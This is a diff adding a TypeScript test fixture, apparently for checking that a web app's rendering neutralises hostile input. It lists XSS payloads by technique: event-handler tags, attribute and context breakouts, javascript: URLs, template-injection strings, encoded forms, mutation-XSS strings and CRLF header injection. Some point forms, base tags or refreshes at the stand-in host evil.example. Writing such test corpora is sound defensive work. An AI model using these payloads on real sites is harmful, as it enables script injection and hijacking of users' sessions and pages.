@@ -1,0 +1,48 @@
+/**
+ * What somebody writes who would like our pages to run it. Each calls `pwned`; each element that comes of one carries
+ * `data-pwn`. In one voice no text swallows the next; the first is short enough for a name.
+ */
+export const VOICES: Record<string, readonly [string, ...string[]]> = {
+  plainly: [
+    '<img data-pwn src=x onerror=pwned()>',
+    '<script data-pwn>pwned()</script>',
+    '<svg data-pwn onload=pwned()></svg>',
+    '"><img data-pwn src=x onerror=pwned()>',
+    '" autofocus onfocus=pwned() data-pwn="',
+    "' onmouseover='pwned()' data-pwn='",
+    '<a data-pwn href="javascript:pwned()">x</a>',
+    '<a data-pwn href="java\tscript:pwned()">x</a>',
+    '<details data-pwn open ontoggle=pwned()>x</details>',
+    '<iframe data-pwn srcdoc="<script>parent.pwned()</script>"></iframe>',
+    '<form data-pwn action=//evil.example/><button>x</button></form>',
+    '<object data-pwn data="data:text/html,<script>pwned()</script>"></object>',
+    '<base data-pwn href=//evil.example/><link data-pwn rel=stylesheet href=//evil.example/x.css>',
+    '<meta data-pwn http-equiv=refresh content="0;url=//evil.example/">',
+    '<p data-pwn style="position:fixed;inset:0">x</p>',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody would write
+    "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> #{pwned()}",
+    '&lt;img data-pwn src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;',
+    '\\u003cscript\\u003epwned()\\u003c/script\\u003e \\x3cscript\\x3epwned()\\x3c/script\\x3e',
+    'line\u2028end\u2029pwned() \u202eback\u202c \ufeff \u0300',
+    'javascript:pwned()',
+  ],
+  'out of where it stands': [
+    '</script><script data-pwn>pwned()</script>',
+    '</title><img data-pwn src=x onerror=pwned()>',
+    '</textarea></style></noscript></select></option><img data-pwn src=x onerror=pwned()>',
+    '\'];pwned();// "];pwned();// `;pwned();//',
+    ']]><script data-pwn>pwned()</script>',
+    '--><script data-pwn>pwned()</script><!--x-->',
+    '\r\nx-injected: 1\r\n\r\n<script data-pwn>pwned()</script>',
+  ],
+  'a comment that holds a script': ['<!--<script data-pwn>', '</script>--!><img data-pwn src=x onerror=pwned()>'],
+  'without an end': ['<plaintext data-pwn>', '<textarea data-pwn>', '<svg><style><!--'],
+  'changing as it is read': [
+    '<math><mi><style><img data-pwn></math>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-pwn src=x onerror=pwned()&gt;">',
+    '<svg></p><style><a id="</style><img data-pwn src=x onerror=pwned()>">',
+    '<noscript><p title="</noscript><img data-pwn src=x onerror=pwned()>">',
+    '<form><math><mtext></form><form><mglyph><style></math><img data-pwn src onerror=pwned()>',
+    '<xmp><p title="</xmp><img data-pwn src=x onerror=pwned()>">',
+  ],
+};
